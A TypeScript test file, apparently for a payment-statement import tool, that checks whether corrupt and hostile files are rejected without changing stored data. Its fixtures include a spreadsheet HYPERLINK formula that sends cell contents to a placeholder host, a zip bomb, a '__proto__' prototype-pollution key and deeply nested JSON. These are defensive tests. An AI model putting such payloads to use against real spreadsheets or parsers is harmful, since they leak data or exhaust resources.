/** Files that are broken, cut off or made to hurt: nothing changes, and the page says why. */
import { strToU8, zipSync } from 'fflate';
import { expect, it } from 'vitest';
import { BACKUP_VERSION } from '../../../utils/formats/backup.ts';
import { gb18030, utf8, wechatText } from '../../utils/imports/files.ts';
import type { Take } from './kit.ts';

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const LINE = {
  at: '2025-03-01 09:08:07',
  who: '知识星球',
  what: '海',
  amount: '9.00',
  order: '42',
};

/** A workbook whose only sheet is this XML. */
function book(sheet: string): Uint8Array {
  return zipSync({
    'xl/workbook.xml': strToU8(
      `<workbook xmlns="${MAIN}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': strToU8(
      '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>',
    ),
    'xl/worksheets/sheet1.xml': strToU8(sheet),
  });
}
const rows = (xml: string) =>
  `<worksheet xmlns="${MAIN}"><sheetData>${xml}</sheetData></worksheet>`;

/** The same with its parts said to need a password. */
function locked(bytes: Uint8Array): Uint8Array {
  const view = new DataView(bytes.buffer, bytes.byteOffset);
  for (let i = 0; i + 4 < bytes.length; i++)
    if (view.getUint32(i, true) === 0x0201_4b50) bytes[i + 8] = (bytes[i + 8] ?? 0) | 1;
  return bytes;
}

/** `backup`: a whole one. */
export function hostileFiles(take: () => Take, backup: () => string): void {
  const spoilt = (spoil: (file: { version: number; data: Record<string, unknown[]> }) => void) => {
    const file = JSON.parse(backup());
    spoil(file);
    return JSON.stringify(file);
  };

  it.each<[string, () => Blob | Uint8Array | string, RegExp]>([
    ['a statement cut short', () => wechatText([LINE]).slice(0, 300), /不认得这个文件/],
    [
      'a statement in no encoding',
      () => new Uint8Array([...Buffer.from(wechatText([LINE]), 'utf16le')].reverse()),
      /文字编码|不认得/,
    ],
    ['noise', () => Uint8Array.from({ length: 999 }, (_, i) => (i * 73) % 256), /文字编码/],
    ['nothing', () => '', /是空的/],
    ['a zip cut off', () => book(rows('')).slice(0, 200), /不完整或已损坏/],
    ['a zip of a bomb', () => book(rows(' '.repeat(80 << 20))), /大得/],
    [
      'rows without end',
      () => book(rows('<row r="1"><c><v>1</v></c></row>'.repeat(200_002))),
      /行数太多/,
    ],
    [
      'ten million rows claimed by a sheet',
      () => book(`<worksheet><dimension ref="A1:K10000000"/><sheetData/></worksheet>`),
      /不认得这个文件/,
    ],
    ['a password', () => locked(book(rows(''))), /密码/],
    ['another archive', () => zipSync({ 'a.csv': strToU8('a,b') }), /压缩包/],
    ['old Excel', () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 1, 2]), /旧版 Excel/],
    ['half a backup', () => backup().slice(0, 5000), /JSON/],
    [
      'a backup with a changed row',
      () => backup().replace('周三写作小组', '周四写作小组'),
      /校验|损坏/,
    ],
    ['a backup of a newer version', () => spoilt((f) => (f.version = BACKUP_VERSION + 1)), /新/],
    ['prototype keys', () => '{"__proto__":{"subscriptions":[]}}', /不认得这个文件/],
    ['JSON without end', () => '['.repeat(100_000), /JSON/],
  ])('%s changes nothing and says why', async (_name, make, why) => {
    const before = JSON.stringify(await take().everything());
    await take().choose('x', make());
    const alert = take().page.locator('.take-half').getByRole('alert');
    await alert.waitFor({ timeout: 60_000 });
    expect(await alert.textContent()).toMatch(why);
    expect(JSON.stringify(await take().everything())).toBe(before);
    expect(await take().page.evaluate(() => ({}).toString.call({}))).toBe('[object Object]');
    await take().again();
  });

  it('ten million payments claimed by a statement: told, and nothing is ticked', async () => {
    await take().choose('a.csv', utf8(wechatText([LINE], 10_000_000)));
    const run = take().run('微信支付账单');
    expect(await run.getByRole('alert').textContent()).toMatch(/共 1000 万 笔|10,000,000|1000 ?万/);
    expect(await run.getByRole('button', { name: '记下 0 笔' }).isDisabled()).toBe(true);
    await run.getByRole('button', { name: '不要了' }).click();
  });

  it('cells of formulas are texts, here and in what goes out again', async () => {
    const formula = '=HYPERLINK("http://x.example?"&A1,"点")';
    const cell = (at: string, value: string) =>
      `<c r="${at}" t="str"><f>${value.replaceAll('&', '&amp;')}</f><v>${value.replaceAll('&', '&amp;')}</v></c>`;
    await take().choose(
      'a.csv',
      gb18030(wechatText([{ ...LINE, what: formula.replaceAll('"', '""'), who: '知识星球' }])),
    );
    const run = take().run('微信支付账单');
    await run.getByRole('rowheader', { name: /HYPERLINK/ }).waitFor();
    await run.getByRole('button', { name: '不要了' }).click();
    await take().choose('a.xlsx', book(rows(`<row r="1">${cell('A1', formula)}</row>`)));
    await take().page.getByText('不认得这个文件').waitFor();
    expect(take().on.requestsOfExtension()).toEqual([]);
    await take().again();
  });
}
